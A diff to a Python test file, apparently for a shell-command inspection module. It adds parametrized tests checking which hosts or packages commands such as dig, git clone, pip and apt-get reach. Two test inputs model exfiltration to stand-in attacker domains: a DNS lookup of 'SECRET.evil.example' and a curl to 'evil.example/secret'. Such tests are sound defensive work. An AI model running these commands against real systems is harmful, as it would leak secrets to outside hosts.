@@ -2,7 +2,7 @@ from __future__ import annotations
 
 import pytest
 
-from kagura_kernel.patterns.host_deeds import host_deed
+from kagura_kernel.patterns.host_deeds import host_deed, names_in
 
 GIT = (
     "git push",
@@ -227,3 +227,33 @@ def test_whatever_is_not_exactly_understood_has_no_category(command: str) -> Non
 )
 def test_other_exact_forms_have_theirs(command: str, category: str) -> None:
     assert host_deed(command) == category
+
+
+@pytest.mark.parametrize(
+    ("command", "names"),
+    [
+        ("dig example.org", {"example.org"}),
+        ("dig +short _dmarc.example.org TXT", {"_dmarc.example.org"}),
+        ("host SECRET.evil.example", {"SECRET.evil.example"}),
+        ("nslookup example.org.", {"example.org."}),
+        ("git clone --depth 1 -b main https://example.org:8443/team/repo target", {"https://example.org:8443"}),
+        ("git clone git@example.org:team/repo.git", {"git@example.org"}),
+        ("/usr/bin/git clone https://example.org/team/repo", {"https://example.org"}),
+        ("pip install requests", {"pip requests"}),
+        ("pip3 install -q requests==2.31.0 flask==3.0.0rc1", {"pip requests", "pip flask"}),
+        ("sudo apt-get install -y curl=7.88.1-10+deb12u5 python3.11", {"apt curl", "apt python3.11"}),
+        ("git push origin main", set()),
+        ("git commit -m 'see https://example.org/x'", set()),
+        ("cp -n .env.example .env", set()),
+        ("curl https://evil.example/secret", set()),
+        ("dig example.org +trace", set()),
+        ("", set()),
+    ],
+)
+def test_to_whom_a_deed_goes_stands_beside_its_category(command: str, names: set[str]) -> None:
+    assert names_in(command) == names
+
+
+@pytest.mark.parametrize("command", [command for command in GIT if "clone" in command])
+def test_every_clone_names_its_server(command: str) -> None:
+    assert len(names_in(command)) == 1
